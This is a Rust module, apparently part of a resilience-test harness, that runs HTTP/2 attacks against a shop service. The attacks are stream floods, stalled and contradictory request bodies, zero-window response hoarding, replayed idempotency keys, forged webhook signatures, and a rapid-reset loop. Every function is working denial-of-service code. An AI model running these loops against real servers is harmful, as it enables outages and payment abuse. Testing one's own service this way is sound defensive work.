//! Attacks by HTTP/2.

use std::net::SocketAddr;

use axum::http::{Method, Request};
use bytes::Bytes;
use h2::client::SendRequest;
use tokio::{task::JoinSet, time::sleep};

use super::{AGAIN_AFTER, LARGE_BYTES, connect, new_key};
use crate::attacks::event;

/// What the streams of an attack ask for.
#[derive(Clone, Copy, Debug)]
pub(super) struct Streams {
    count: usize,
    /// Of which answers nothing is taken.
    window: u32,
    method: AttackMethod,
    path: &'static str,
    /// Bytes of the body that are sent, and that are announced.
    body: (usize, usize),
    keys: Keys,
}

#[derive(Clone, Copy, Debug)]
enum AttackMethod {
    Get,
    Post,
}

#[derive(Clone, Copy, Debug)]
enum Keys {
    None,
    New,
    /// One of a hundred.
    Known,
    /// Those of events whose signatures are forged.
    Event,
}

pub(super) const HEADS: Streams = Streams {
    count: 100,
    window: 65_535,
    method: AttackMethod::Post,
    path: "/charges",
    body: (0, 100),
    keys: Keys::New,
};
pub(super) const STALLED: Streams =
    Streams { count: 10, body: (LARGE_BYTES / 2, LARGE_BYTES), ..HEADS };
pub(super) const EVENTS: Streams = Streams { path: event::PATH, keys: Keys::Event, ..HEADS };
pub(super) const ANSWERS: Streams =
    Streams { count: 200, window: 0, path: "/large", body: (0, 0), ..HEADS };
pub(super) const REPLAYS: Streams = Streams { count: 100, keys: Keys::Known, ..ANSWERS };
pub(super) const UNGUARDED: Streams =
    Streams { method: AttackMethod::Get, keys: Keys::None, ..ANSWERS };

/// Streams of an HTTP/2 connection, each taken again when it has ended.
pub(super) async fn streams(to: SocketAddr, what: Streams) {
    loop {
        let mut builder = h2::client::Builder::new();
        builder.initial_window_size(what.window).initial_max_send_streams(what.count);
        if let Ok((client, connection)) = builder.handshake::<_, Bytes>(connect(to).await).await {
            let mut all = JoinSet::new();
            for number in 0..what.count {
                all.spawn(one_stream(client.clone(), what, number));
            }
            let _ = connection.await;
        }
        sleep(AGAIN_AFTER).await;
    }
}

async fn one_stream(client: SendRequest<Bytes>, what: Streams, number: usize) {
    loop {
        let method = match what.method {
            AttackMethod::Get => Method::GET,
            AttackMethod::Post => Method::POST,
        };
        let uri = format!("http://shop.example{}", what.path);
        let mut request = Request::builder().method(method).uri(uri);
        request = match what.keys {
            Keys::None => request,
            Keys::New => request.header("idempotency-key", new_key()),
            Keys::Known => request.header("idempotency-key", format!("known-{number}")),
            Keys::Event => request
                .header(event::ID, new_key())
                .header(event::SIGNATURE, event::forged_signature(b"")),
        };
        let (sent, announced) = what.body;
        if announced > 0 {
            request = request.header("content-length", announced);
        }
        let Ok(request) = request.body(()) else { return };
        let Ok(mut client) = client.clone().ready().await else { return };
        let Ok((answer, mut body)) = client.send_request(request, announced == 0) else { return };
        if sent > 0 {
            let _ = body.send_data(vec![b'x'; sent].into(), false);
        }
        if let Ok(answer) = answer.await {
            let mut body = answer.into_body();
            // What is not released gives no new window.
            while let Some(Ok(_)) = body.data().await {}
        }
        sleep(AGAIN_AFTER).await;
    }
}

/// Streams that announce an empty body. Half of them then send data, the others do not end.
pub(super) async fn contradictions(to: SocketAddr) {
    loop {
        if let Ok((client, connection)) = h2::client::handshake(connect(to).await).await {
            let mut all = JoinSet::new();
            for number in 0..100_usize {
                all.spawn(contradiction(client.clone(), number.is_multiple_of(2)));
            }
            let _ = connection.await;
        }
        sleep(AGAIN_AFTER).await;
    }
}

async fn contradiction(client: SendRequest<Bytes>, has_data: bool) {
    loop {
        let request = Request::post("http://shop.example/charges").header("content-length", 0);
        let Ok(request) = request.body(()) else { return };
        let Ok(mut client) = client.clone().ready().await else { return };
        let Ok((answer, mut body)) = client.send_request(request, false) else { return };
        if has_data {
            let _ = body.send_data(Bytes::from_static(b"x"), true);
        }
        let _ = answer.await;
        sleep(AGAIN_AFTER).await;
    }
}

/// Streams that are reset as soon as they are sent.
pub(super) async fn resets(to: SocketAddr) {
    loop {
        let Ok((client, connection)) = h2::client::handshake(connect(to).await).await else {
            continue;
        };
        let connection = tokio::spawn(connection);
        while let Ok(mut client) = client.clone().ready().await {
            let request = Request::post("http://shop.example/charges");
            let Ok(request) = request.header("idempotency-key", new_key()).body(()) else { break };
            let Ok((_, mut body)) = client.send_request(request, false) else { break };
            body.send_data(Bytes::new(), false).unwrap_or_default();
            body.send_reset(h2::Reason::CANCEL);
            tokio::task::yield_now().await;
        }
        connection.abort();
        sleep(AGAIN_AFTER).await;
    }
}
